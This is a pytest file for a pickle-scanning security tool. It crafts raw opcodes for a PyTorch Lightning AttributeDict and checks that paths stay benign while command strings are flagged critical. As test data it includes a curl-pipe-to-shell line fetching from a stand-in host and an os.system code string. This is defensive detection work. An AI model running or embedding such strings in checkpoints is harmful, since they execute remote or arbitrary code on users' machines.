"""Items added to an unknown dict subclass are its state, like BUILD's: a path or URL there is
data (a PyTorch Lightning 1.x checkpoint's AttributeDict of hyper-parameters holds ``data_dir="/root/data"``),
while a command or code string still makes the call critical. Streams from raw opcodes."""

from __future__ import annotations

import io
import struct

import pytest

from app.core.findings import FindingSink
from app.core.limits import Limits
from app.core.scanners.pickle_engine.analysis import analyze_pickles
from tests.samples import opcodes as op


def _findings(value: str) -> set[tuple[str, str]]:
    # NEWOBJ of a dict subclass then SETITEMS: what copyreg.__reduce_ex__(2) writes for it;
    # load_setitems calls the instance's own __setitem__ for each pair.
    items = op.MARK + op.uni("lr") + b"G" + struct.pack(">d", 1e-3) + op.uni("data_dir") + op.uni(value) + op.SETITEMS
    data = (op.proto(2) + op.glob("pytorch_lightning.utilities.parsing", "AttributeDict") + op.EMPTY_TUPLE
            + op.NEWOBJ + items + op.STOP)
    sink = FindingSink("last.ckpt", "hfvet-pickle")
    analyze_pickles(io.BytesIO(data), sink, Limits())
    return {(f.rule, f.severity.value) for f in sink.findings}


@pytest.mark.parametrize("value", ["/root/data", "https://huggingface.co/datasets/acme/x", "~/datasets/x"])
def test_a_path_or_url_among_the_items_is_state_not_a_suspicious_call(value: str) -> None:
    found = _findings(value)
    assert ("pickle-suspicious-call", "critical") not in found
    assert ("pickle-object-mutation", "high") in found  # its __setitem__ still runs: still reported


@pytest.mark.parametrize("value", ["curl http://x.example/a.sh | sh", "__import__('os').system('id')"])
def test_a_command_or_code_among_the_items_is_still_critical(value: str) -> None:
    assert ("pickle-suspicious-call", "critical") in _findings(value)
